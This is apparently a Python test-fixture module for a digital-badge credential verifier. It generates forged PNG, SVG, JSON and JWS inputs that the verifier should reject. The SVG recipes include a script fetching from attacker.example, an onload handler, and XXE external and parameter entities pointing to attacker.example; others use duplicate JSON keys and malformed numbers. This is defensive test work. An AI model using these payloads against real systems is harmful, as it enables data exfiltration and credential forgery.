"""Recipes: containers with two credentials, active pictures, text that parsers read in two ways
(F18, F19, F40)."""

from __future__ import annotations

import io
import json
from typing import Final

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from bayleaf.engine.encoding import b64url_decode, b64url_encode
from tests.fraud.corpus import GENERATED
from tests.fraud.fixture import NOT_GENUINE, Fixture, Found
from tests.fraud.parties import SCHOOL_NAME, badge, by_key, issued, issued_token
from tests.interop import containers

SCHOOL = by_key("school")
TRUST = {SCHOOL.id: SCHOOL_NAME}
AMBIGUOUS: Final[Found] = ("input.single", "fail", "AMBIGUOUS_INPUT")
MALFORMED: Final[Found] = ("input.parse", "fail", "MALFORMED")
TWICE: Final[Found] = ("input.parse", "fail", "DUPLICATE_KEY")


def make() -> list[Fixture]:
    """Make them all."""
    return [_two_chunks(), _active_drawing(), _two_readings()]


def _texts() -> tuple[str, str]:
    """A genuine credential, and what the attacker would like to be read."""
    genuine = issued(badge(SCHOOL), SCHOOL)
    forged = {**genuine, "name": "Master mariner"}
    return json.dumps(genuine), json.dumps(forged)


def _two_chunks() -> Fixture:
    fixture = Fixture(
        "F18", "two-in-a-png", "PNG with two credential chunks, or iTXt + tEXt", trust=TRUST
    )
    good, bad = _texts()
    fixture.base("base.png", containers.png_with(good))
    both = PngInfo()
    both.add_itxt(containers.KEYWORD, good)
    both.add_text(containers.KEYWORD, bad)
    families = PngInfo()
    families.add_itxt(containers.KEYWORD, good)
    families.add_itxt("clrcredential", bad)
    for name, picture in {
        "good-then-bad": containers.png_with(good, bad),
        "bad-then-good": containers.png_with(bad, good),
        "itxt-and-text": _png(both),
        "two-keywords": _png(families),
    }.items():
        fixture.forgery(f"{name}.png", picture, NOT_GENUINE, AMBIGUOUS, requested=[])
    return fixture


def _png(chunks: PngInfo) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (8, 8), "#1f6f5c").save(target, "PNG", pnginfo=chunks)
    return target.getvalue()


def _active_drawing() -> Fixture:
    fixture = Fixture(
        "F19", "active-svg", "SVG with script / external entity / two credential nodes", trust=TRUST
    )
    good, bad = _texts()
    drawing = containers.svg_with(good).decode()
    fixture.base("base.svg", drawing)
    leak = '<!DOCTYPE svg [<!ENTITY leak SYSTEM "https://attacker.example/leak">]>\n'
    outside = '<!DOCTYPE svg [<!ENTITY % all SYSTEM "https://attacker.example/dtd"> %all;]>\n'
    title = "<title>Badge</title>"
    for name, forged in {
        "script": drawing.replace(title, '<script>fetch("https://attacker.example")</script>'),
        "event-handler": drawing.replace(title, '<g onload="alert(1)"/>'),
        "external-entity": leak + drawing.replace(title, "<title>&leak;</title>"),
        "parameter-entity": outside + drawing,
        "entity-never-declared": drawing.replace(title, "<title>&leak;</title>"),
    }.items():
        fixture.forgery(f"{name}.svg", forged, NOT_GENUINE, MALFORMED, requested=[])
    fixture.forgery(
        "two-nodes.svg", containers.svg_with(good, bad), NOT_GENUINE, AMBIGUOUS, requested=[]
    )
    sound = issued_token(badge(SCHOOL), SCHOOL)
    spoken_twice = drawing.replace(
        "<openbadges:credential>", f'<openbadges:credential verify="{sound}">'
    )
    fixture.forgery("token-and-text.svg", spoken_twice, NOT_GENUINE, AMBIGUOUS, requested=[])
    return fixture


def _two_readings() -> Fixture:
    fixture = Fixture(
        "F40", "two-readings",
        "duplicate keys, NaN, 1e400, lone surrogate, BOM, 10^6 levels", trust=TRUST,
    )  # fmt: skip
    good, _ = _texts()
    fixture.base("base.json", good)
    start, name = '"validFrom": ', '"name": "Knots and splices"'
    early = '"validFrom": "2019-03-02T08:00:00Z", "validFrom": '
    spelled = r'"valid\u0046rom": "2019-03-02T08:00:00Z", "validFrom": '
    for file, forged, found in (
        ("member-twice", good.replace(start, early, 1), TWICE),
        ("member-twice-with-an-escape", good.replace(start, spelled, 1), TWICE),
        (
            "member-twice-deep-inside",
            good.replace(name, f'"name": "Master mariner", {name}'),
            TWICE,
        ),
        ("nan", good.replace(start, f'"creditsEarned": NaN, {start}', 1), MALFORMED),
        ("infinity", good.replace(start, f'"creditsEarned": -Infinity, {start}', 1), MALFORMED),
        ("overflow", good.replace(start, f'"creditsEarned": 1e400, {start}', 1), MALFORMED),
        ("lone-surrogate", good.replace("Knots and", r"Knots\ud800and"), MALFORMED),
    ):
        fixture.forgery(f"{file}.json", forged, NOT_GENUINE, found)
    surrogate_in_bytes = good.encode().replace(b"Knots and", b"Knots\xed\xa0\x80and")
    fixture.forgery("lone-surrogate-in-bytes.json", surrogate_in_bytes, NOT_GENUINE, MALFORMED)
    fixture.forgery("byte-order-mark.json", b"\xef\xbb\xbf" + good.encode(), NOT_GENUINE, MALFORMED)
    for file in GENERATED:
        fixture.forgery(file, None, NOT_GENUINE, MALFORMED)
    _token_with_a_member_twice(fixture)
    return fixture


def _token_with_a_member_twice(fixture: Fixture) -> None:
    """The signature holds: it covers bytes, and says nothing of how they are read."""
    sound = issued_token(badge(SCHOOL), SCHOOL)
    fixture.base("base.jws", sound)
    early = '"validFrom":"2019-03-02T08:00:00Z","validFrom":'
    header, payload, _ = sound.split(".")
    text = b64url_decode(payload).decode().replace('"validFrom":', early, 1)
    signed = f"{header}.{b64url_encode(text.encode())}"
    forged = f"{signed}.{b64url_encode(SCHOOL.signer.sign(signed.encode()))}"
    fixture.forgery("member-twice.jws", forged, NOT_GENUINE, TWICE, base="base.jws")
